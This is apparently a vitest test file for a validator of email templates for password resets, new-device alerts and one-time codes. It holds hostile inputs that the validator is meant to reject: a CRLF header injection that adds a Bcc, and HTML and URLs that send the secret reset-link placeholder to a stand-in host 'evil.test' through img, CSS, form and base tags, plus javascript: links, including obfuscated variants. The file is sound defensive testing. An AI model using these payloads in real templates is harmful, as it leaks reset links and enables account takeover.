import { describe, expect, it } from 'vitest'
import { checkMailTexts } from './mail-texts.js'

const good = {
  subject: 'Reset your password for {{app_name}}',
  text: 'Here you go:\n\n{{link}}\n\nFor {{ minutes }} minutes.',
  html: '<p style="color:#333">Here you go: <a href="{{link}}">choose</a> (<b>{{collection}}</b>)</p><p>{{ link }}</p>',
}
const placesOf = (texts: object, kind = 'password_reset'): readonly string[] => [
  ...new Set(checkMailTexts(kind, { ...good, ...texts }).map(({ path }) => path)),
]

describe('checkMailTexts', () => {
  it('takes texts with the placeholders of their kind, with and without markup', () => {
    expect(checkMailTexts('password_reset', good)).toEqual([])
    expect(placesOf({ html: undefined })).toEqual([])
    expect(
      placesOf({ subject: 'New', text: '{{device}}, {{ip}}, {{time}}', html: '<p>{{device}}</p>' }, 'new_device'),
    ).toEqual([])
    expect(
      placesOf({ subject: 'Code', text: 'It is {{code}}.', html: '<p>It is <strong>{{code}}</strong>.</p>' }, 'otp'),
    ).toEqual([])
  })

  it.each([
    ['subject', { subject: 'Reset\r\nBcc: evil@evil.test' }],
    ['subject', { subject: 'Reset\u2028now' }],
    ['subject', { subject: '' }],
    ['subject', { subject: 'x'.repeat(201) }],
    ['subject', { subject: 'Go to {{link}}' }],
    ['subject', { subject: 'Dear {{name}}' }],
    ['text', { text: 'Go away' }],
    ['text', { text: '{{link}} {{code}}' }],
    ['text', { text: '{{link}} {{constructor}}' }],
    ['text', { text: '{{link}} {{link' }],
    ['text', { text: '{{link}} }}' }],
    ['text', { text: '{{link}} {{  minutes }}' }],
    ['text', { text: '{{link}} {{minutes * 2}}' }],
    ['text', { text: '{{link}} \u0000' }],
    ['text', { text: '{{link}} \ud800' }],
    ['text', { text: `{{link}} ${'x'.repeat(10_000)}` }],
    ['html', { html: '<p>Go away</p>' }],
    ['html', { html: `<p>{{link}} ${'x'.repeat(20_000)}</p>` }],
  ])('refuses a %s: %j', (place, texts) => {
    expect(placesOf(texts)).toEqual([place])
  })

  it.each([
    'https://evil.test/?{{link}}',
    'https://evil.test/?\u00a0{{link}}',
    'https://evil.test/?\ufeff{{link}}',
    'https://evil.test/?\u200b{{ link }}',
    '{{link}} https://evil.test/?{{link}}',
  ])('does not let a secret become a part of another address: %j', (text) => {
    expect(placesOf({ text })).toEqual(['text'])
  })

  it.each([
    '<img src="https://evil.test/?{{link}}">{{link}}',
    `<img src='https://evil.test/?{{link}}'>{{link}}`,
    `<img src='https://evil.test/?><p>{{link}}</p>`,
    '<img src=https://evil.test/?{{link}}>{{link}}',
    '<img alt="a" src="http://evil.test/">{{link}}',
    '<a href="https://evil.test/?{{link}}">{{link}}</a>',
    '<a href="javascript:alert(1)">{{link}}</a>',
    '<a title="{{link}}" href="{{link}}">x</a>',
    '<p style="background:url(https://evil.test)">{{link}}</p>',
    '<p style="background:&#117;rl(https://evil.test)">{{link}}</p>',
    '<p style="list-style:image-set(&quot;https://evil.test&quot;)">{{link}}</p>',
    '<p style="content:image-set(\'https://evil.test\' 1x)">{{link}}</p>',
    '<p onclick="x">{{link}}</p>',
    '<script>{{link}}</script>',
    '<style>@import url(https://evil.test/ {{link}} );</style>',
    '<form action="https://evil.test"><textarea name="a"> {{link}} </textarea></form>',
    '<svg> {{link}} </svg>',
    '<base href="https://evil.test/"> {{link}}',
    '<!-- {{link}} -->',
    '<p> {{link}} </p',
    '<p> {{link}} < a > </p>',
    '<p>https://evil.test/?{{link}}</p>',
    '<p>https://evil.test/?<b>{{link}}</b></p>',
    '<p>https://evil.test/?&#8203;{{link}}</p>',
    '</p class="x"> {{link}}',
    '<p a=b> {{link}} </p>',
    '<p title="\u0000{{minutes}}"> {{link}} </p>',
  ])('holds markup to what shows something and does nothing: %j', (html) => {
    expect(placesOf({ html })).toEqual(['html'])
  })
})
